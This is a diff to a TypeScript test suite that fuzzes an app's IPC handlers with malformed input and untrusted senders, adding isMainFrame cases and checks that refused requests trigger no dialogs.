@@ -816,6 +1169,8 @@ function expectNothingDone(w: World): void {
   expect(w.timers.scheduled).toEqual([]);
   expect(w.shell.calls).toEqual([]);
   expect(w.fetchCalls).toEqual([]);
+  // No native question either: a refused request never gets as far as asking the user.
+  expect(w.dialogs.calls).toEqual([]);
 }
 
 describe('bad input corpus', () => {
@@ -849,7 +1204,7 @@ describe('generated bad input (fast-check)', () => {
   const objectChannels = ['keys:mint', 'clipboard:copy', 'settings:set', 'logs:tail', 'shell:reveal'] as const;
   const allowed: Record<(typeof objectChannels)[number], readonly string[]> = {
     'keys:mint': ['namespace', 'expiresIn'],
-    'clipboard:copy': ['text', 'secret'],
+    'clipboard:copy': ['what', 'token'],
     'settings:set': Object.keys(DEFAULT_SETTINGS),
     'logs:tail': ['lines'],
     'shell:reveal': ['target'],
@@ -939,8 +1294,9 @@ describe('generated bad input (fast-check)', () => {
 
   it('any request from an untrusted sender', async () => {
     const sender = fc.oneof(
-      fc.record({ id: fc.integer().filter((id) => id !== 1), url: fc.constant(APP_URL) }),
-      fc.record({ id: fc.constant(1), url: fc.webUrl() }),
+      fc.record({ id: fc.integer().filter((id) => id !== 1), url: fc.constant(APP_URL), isMainFrame: fc.boolean() }),
+      fc.record({ id: fc.constant(1), url: fc.webUrl(), isMainFrame: fc.boolean() }),
+      fc.record({ id: fc.constant(1), url: fc.constant(APP_URL), isMainFrame: fc.constantFrom(false, 0, 1, 'true', null, undefined) }),
       fc.anything(),
     );
     await fc.assert(
@@ -966,6 +1322,8 @@ describe('never throws', () => {
       isTrustedSender: () => {
         throw new Error('boom');
       },
+      confirm: w.dialogs,
+      fileChooser: w.dialogs,
     });
     expect(errorOf(await table.handle('app:info', WINDOW, undefined)).code).toBe('forbidden-sender');
     await fsp.rm(w.tmp, { recursive: true, force: true });
@@ -974,6 +1332,7 @@ describe('never throws', () => {
   it('even when reading the sender throws', async () => {
     const sender = {
       id: 1,
+      isMainFrame: true,
       get url(): string {
         throw new Error('disposed');
       },
